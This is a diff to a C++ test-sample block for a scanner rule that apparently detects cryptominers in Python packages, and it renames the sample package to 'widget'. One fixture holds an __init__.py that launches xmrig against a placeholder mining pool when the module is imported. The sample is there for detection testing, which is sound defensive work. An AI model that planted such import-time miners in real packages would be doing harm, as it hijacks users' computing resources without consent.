@@ -34,26 +34,26 @@ extern constinit const Rule mines = {
 #ifdef RULE_SAMPLES
 constexpr Sample samples[] = {
     {.name = "a module starts a miner when imported",
-     .expect = "sample/__init__.py:2",
+     .expect = "widget/__init__.py:2",
      .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 from setuptools import setup
-setup(name="sample", version="1.0.0", packages=["sample"])
-==> sample/__init__.py
+setup(name="widget", version="1.0.0", packages=["widget"])
+==> widget/__init__.py
 import subprocess
 subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.example.test:3333"])
 )"},
     {.name = "a module starts something else", .expect = silent, .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 from setuptools import setup
-setup(name="sample", version="1.0.0", packages=["sample"])
-==> sample/__init__.py
+setup(name="widget", version="1.0.0", packages=["widget"])
+==> widget/__init__.py
 import subprocess
 def run():
     subprocess.Popen(["./server", "-o", "log.txt"])
